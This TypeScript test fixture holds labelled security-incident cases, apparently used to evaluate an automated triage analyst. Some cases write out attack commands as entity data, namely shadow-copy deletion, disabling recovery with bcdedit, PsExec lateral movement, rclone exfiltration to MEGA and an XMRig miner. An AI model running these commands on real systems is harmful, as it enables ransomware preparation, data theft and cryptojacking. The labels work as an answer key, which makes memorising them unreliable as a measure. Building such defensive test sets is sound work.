import { entity, makeAlert } from '../support/incidentBuilders';
import { app, at, file, host, incident, ip, mailbox, proc, RU, serviceAccount, user, type LabelledIncident } from './incidentCases';

/**
 * A third batch, written after the fixes that the second (held-out) batch prompted and run once: the
 * figure for how the analyst does on incidents nobody tuned it on. Labels are the analyst's
 * conclusion from what each case shows.
 */
const IE = { countryCode: 'IE', countryName: 'Ireland', city: 'Dublin', asn: 8075 };

export const FRESH_INCIDENT_CASES: LabelledIncident[] = [
  {
    id: 'fresh-mfa-method-added',
    label: 'TRUE_POSITIVE',
    why: 'A second authenticator was registered from Moscow after a phish; the user never added it.',
    incident: incident(
      'Suspicious MFA method registration for r.novak@contoso.example',
      'MEDIUM',
      [
        makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'The sign-in of r.novak@contoso.example from 203.0.113.140 used properties never seen for this user.', productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(0) }),
        makeAlert({ displayName: 'User registered a new MFA method', description: 'r.novak@contoso.example registered a new Microsoft Authenticator device from 203.0.113.140.', productName: 'Azure Sentinel', tactics: ['Persistence'], techniques: ['T1098.005'], timeGenerated: at(9) }),
      ],
      [user('r.novak', 'Rosa Novak'), ip('203.0.113.140', RU)],
      { comments: ['The new authenticator was registered from Moscow an hour after Rosa opened a fake DocuSign mail; she says she never added a second phone. Removed the method and revoked her sessions.'] },
    ),
  },
  {
    id: 'fresh-recovery-inhibited',
    label: 'TRUE_POSITIVE',
    why: 'Shadow copies deleted with WMIC and boot recovery disabled on a file server: ransomware preparation.',
    incident: incident(
      'Inhibit system recovery on CONTOSO-FS-02',
      'HIGH',
      [makeAlert({ displayName: 'Ransomware-linked recovery tampering', description: 'Commands that delete shadow copies and disable Windows recovery were run on CONTOSO-FS-02.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1490'], timeGenerated: at(3) })],
      [host('CONTOSO-FS-02', 'Windows Server 2019'), serviceAccount('adm_helpdesk'), proc('WMIC.exe', 'wmic.exe shadowcopy delete /nointeractive', true), proc('bcdedit.exe', 'bcdedit.exe /set {default} recoveryenabled No', true)],
    ),
  },
  {
    id: 'fresh-psexec-night',
    label: 'TRUE_POSITIVE',
    why: 'PsExec from a workstation to three servers at 03:00 with a helpdesk account nobody was using.',
    incident: incident(
      'Possible lateral movement with PsExec from CONTOSO-WS-0419',
      'MEDIUM',
      [makeAlert({ displayName: 'Remote service creation and execution', description: 'adm_helpdesk created and started the PSEXESVC service on CONTOSO-APP-03, CONTOSO-APP-04 and CONTOSO-SQL-01 remotely from CONTOSO-WS-0419 over SMB.', severity: 'MEDIUM', tactics: ['LateralMovement', 'Execution'], techniques: ['T1021.002', 'T1569.002'], timeGenerated: at(0) })],
      [host('CONTOSO-WS-0419'), host('CONTOSO-APP-03', 'Windows Server 2019'), host('CONTOSO-APP-04', 'Windows Server 2019'), host('CONTOSO-SQL-01', 'Windows Server 2019'), serviceAccount('adm_helpdesk'), proc('PsExec64.exe', 'PsExec64.exe \\\\CONTOSO-APP-03 -s cmd.exe /c "net localgroup administrators"')],
      { comments: ['The helpdesk team does not use PsExec, and nobody was on shift at 03:00. Reset the adm_helpdesk password; the three servers are being triaged.'] },
    ),
  },
  {
    id: 'fresh-rclone-mega',
    label: 'TRUE_POSITIVE',
    why: 'rclone uploading a finance share to MEGA with a config that is not the company\'s.',
    incident: incident(
      'Possible data exfiltration with rclone from CONTOSO-FS-04',
      'HIGH',
      [makeAlert({ displayName: 'Possible exfiltration with a cloud sync tool', description: 'rclone.exe on CONTOSO-FS-04 uploaded 38 GB from \\\\CONTOSO-FS-04\\finance to a cloud storage provider.', severity: 'HIGH', tactics: ['Exfiltration'], techniques: ['T1567.002'], timeGenerated: at(15) })],
      [host('CONTOSO-FS-04', 'Windows Server 2022'), user('t.bianchi', 'Tomas Bianchi', true), proc('rclone.exe', 'C:\\ProgramData\\rc\\rclone.exe copy \\\\CONTOSO-FS-04\\finance mega:backup01 --transfers 16 -q --config C:\\ProgramData\\rc\\rclone.conf'), file('C:\\ProgramData\\rc', 'rclone.exe')],
      { comments: ['The rclone config points at a MEGA account that is not ours, created two days ago. Tomas was not logged on at that time.'] },
    ),
  },
  {
    id: 'fresh-iso-attachment-campaign',
    label: 'TRUE_POSITIVE',
    why: 'Defender found malware in an ISO attachment delivered to 14 mailboxes.',
    incident: incident(
      'Email messages containing malicious file removed after delivery',
      'MEDIUM',
      [makeAlert({ displayName: 'Email messages containing malicious file removed after delivery', description: 'Emails with a malicious file attachment (Statement_0611.iso) were delivered to 14 mailboxes and later removed by zero-hour auto purge.', productName: 'Microsoft Defender for Office 365', tactics: ['InitialAccess'], techniques: ['T1566.001'], timeGenerated: at(1) })],
      [
        mailbox('ap@contoso.example', 'Accounts Payable'),
        entity('MailMessage', 'Statement of account June', {
          subject: 'Statement of account June',
          recipient: 'ap@contoso.example',
          p1Sender: 'billing@globex-statements.example',
          p2Sender: 'billing@globex-statements.example',
          p2SenderDisplayName: 'Globex Billing',
          p2SenderDomain: 'globex-statements.example',
          senderIP: '198.51.100.201',
          threats: ['Malware'],
          threatDetectionMethods: ['File detonation'],
          antispamDirection: 'Inbound',
          deliveryAction: 'Delivered',
          deliveryLocation: 'Inbox',
        }),
        file('', 'Statement_0611.iso'),
      ],
    ),
  },
  {
    id: 'fresh-xmrig-k8s-node',
    label: 'TRUE_POSITIVE',
    why: 'XMRig miner running in a container on a Kubernetes node.',
    incident: incident(
      'Digital currency mining container on aks-nodepool1-3301',
      'HIGH',
      [makeAlert({ displayName: 'Digital currency mining container detected', description: 'A container on aks-nodepool1-3301 ran a process associated with digital currency mining.', productName: 'Microsoft Defender for Cloud', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1496'], timeGenerated: at(6) })],
      [host('aks-nodepool1-3301', 'Ubuntu 22.04', { isDomainJoined: false }), proc('xmrig', '/tmp/xmrig --url pool.minexmr.example:443 --user 4BrL51JCc9NGQ71kWhnYoDRffsDZy7m1HUU7MRU4nUMXAHNFBEJhkTZV9HdaL4gfuNBxLPc3BeMkLGaPbF5vWtANQp5Gv --tls')],
    ),
  },
  {
    id: 'fresh-qualys-pci-scan',
    label: 'BENIGN_POSITIVE',
    why: 'External vulnerability scan ordered by the security team for the PCI assessment.',
    incident: incident(
      'Port scan against the DMZ from 192.0.2.230',
      'LOW',
      [makeAlert({ displayName: 'Port scan detected', description: 'A single source (192.0.2.230) attempted connections to 4100 ports on hosts in the DMZ within 15 minutes.', productName: 'Azure Sentinel', severity: 'LOW', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(0) })],
      [ip('192.0.2.230')],
      { comments: ['192.0.2.230 is Qualys\' external scanner: the security team ordered a perimeter scan for the quarterly PCI assessment this afternoon.'] },
    ),
  },
  {
    id: 'fresh-winrm-maintenance',
    label: 'BENIGN_POSITIVE',
    why: 'Server admin patched the IIS farm with a remoting script under a change.',
    incident: incident(
      'Suspicious remote PowerShell execution on CONTOSO-WEB-01',
      'MEDIUM',
      [makeAlert({ displayName: 'Suspicious PowerShell remoting', description: 'n.wilson ran PowerShell commands on CONTOSO-WEB-01, CONTOSO-WEB-02 and CONTOSO-WEB-03 over WinRM.', severity: 'MEDIUM', tactics: ['LateralMovement', 'Execution'], techniques: ['T1021.006', 'T1059.001'], timeGenerated: at(20) })],
      [user('n.wilson', 'Noah Wilson', true), host('CONTOSO-WEB-01', 'Windows Server 2022'), host('CONTOSO-WEB-02', 'Windows Server 2022'), host('CONTOSO-WEB-03', 'Windows Server 2022'), proc('powershell.exe', 'powershell.exe -Command Invoke-Command -ComputerName CONTOSO-WEB-01,CONTOSO-WEB-02,CONTOSO-WEB-03 -FilePath \\\\CONTOSO-FS-01\\scripts\\Install-IISPatch.ps1')],
      { comments: ["Noah from the server team patched the IIS farm with his remoting script during tonight's maintenance; it matches change CHG51877."] },
    ),
  },
  {
    id: 'fresh-new-laptop-isp',
    label: 'BENIGN_POSITIVE',
    why: 'Unfamiliar properties come from a new laptop and a new home ISP; enrolled device with MFA.',
    incident: incident(
      'Unfamiliar sign-in properties for c.okafor@contoso.example',
      'LOW',
      [makeAlert({ displayName: 'Unfamiliar sign-in properties', description: 'The sign-in of c.okafor@contoso.example from 198.51.100.101 used a device and ASN never seen for this user.', productName: 'Azure Active Directory Identity Protection', severity: 'LOW', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(4) })],
      [user('c.okafor', 'Chidi Okafor'), ip('198.51.100.101')],
      { comments: ['Chidi got a new laptop on Monday and switched to a new fibre provider at home. The sign-in came from his Intune-enrolled device with MFA.'] },
    ),
  },
  {
    id: 'fresh-url-category-error',
    label: 'FALSE_POSITIVE',
    why: "The 'malicious' URL is the company's own SharePoint site, miscategorised by the reputation vendor.",
    incident: incident(
      'A potentially malicious URL click was detected',
      'HIGH',
      [makeAlert({ displayName: 'A potentially malicious URL click was detected', description: 'l.sato@contoso.example clicked https://contoso.sharepoint.com/sites/Legal/Shared%20Documents/Forms/AllItems.aspx, which was later identified as malicious.', productName: 'Microsoft Defender for Office 365', severity: 'HIGH', tactics: ['Execution'], techniques: ['T1204.001'], timeGenerated: at(2) })],
      [user('l.sato', 'Lena Sato'), entity('Url', 'https://contoso.sharepoint.com/sites/Legal/Shared%20Documents/Forms/AllItems.aspx', { url: 'https://contoso.sharepoint.com/sites/Legal/Shared%20Documents/Forms/AllItems.aspx' })],
      { comments: ['The URL is our own SharePoint Legal site. The URL reputation vendor had categorised the whole tenant as phishing in error for about an hour and has corrected it.'] },
    ),
  },
  {
    id: 'fresh-7zip-archiving',
    label: 'BENIGN_POSITIVE',
    why: "Mass renames are finance's year-end archiving into password-protected 7-Zip archives, as policy requires.",
    incident: incident(
      'Ransomware behavior detected in the file system on CONTOSO-WS-0870',
      'HIGH',
      [makeAlert({ displayName: 'Ransomware behavior detected in the file system', description: 'A process on CONTOSO-WS-0870 encrypted and renamed a large number of user files.', severity: 'HIGH', tactics: ['Impact'], techniques: ['T1486'], timeGenerated: at(11) })],
      [host('CONTOSO-WS-0870'), user('f.iyer', 'Farah Iyer', true), proc('7z.exe', '"C:\\Program Files\\7-Zip\\7z.exe" a -p -mhe=on "\\\\CONTOSO-FS-01\\archive\\FY2024.7z" "D:\\Finance\\FY2024\\*"')],
      { comments: ["Farah ran the finance team's year-end archiving: 7-Zip archives with a password, as the retention policy requires. The renamed files are the archive volumes; nothing else ran on the machine."] },
    ),
  },
  {
    id: 'fresh-prtg-discovery',
    label: 'BENIGN_POSITIVE',
    why: "The scan is PRTG's auto-discovery run by the network team.",
    incident: incident(
      'Port scan detected from CONTOSO-MON-01',
      'INFORMATIONAL',
      [makeAlert({ displayName: 'Port scan detected', description: 'A single source (10.2.0.15) attempted connections to 640 ports on hosts in 10.2.8.0/22.', productName: 'Azure Sentinel', severity: 'INFORMATIONAL', tactics: ['Discovery'], techniques: ['T1046'], timeGenerated: at(0) })],
      [host('CONTOSO-MON-01', 'Windows Server 2022'), ip('10.2.0.15')],
      { comments: ["This is PRTG's auto-discovery, run by the network team every Sunday from the monitoring server. The rule should exclude CONTOSO-MON-01."] },
    ),
  },
  {
    id: 'fresh-outlook-service-ip',
    label: 'FALSE_POSITIVE',
    why: "The 'Dublin' sign-in is Microsoft's Outlook sync service, not the user: a known detection issue.",
    incident: incident(
      'Impossible travel activity involving j.park@contoso.example',
      'MEDIUM',
      [makeAlert({ displayName: 'Atypical travel', description: "Sign-in from an atypical location based on the user's recent sign-ins: j.park@contoso.example signed in from Seattle and 12 minutes later from Dublin, Ireland.", productName: 'Azure Active Directory Identity Protection', tactics: ['InitialAccess'], techniques: ['T1078.004'], timeGenerated: at(7) })],
      [user('j.park', 'Jin Park'), ip('2603:1026:c02:1d::5', IE), app('Office 365 Exchange Online', 20893)],
      { comments: ["The 'Dublin' sign-in is the Outlook mobile sync service from Microsoft's own address range (2603:1026::/32), not Jin. Known detection issue with this rule."] },
    ),
  },
];
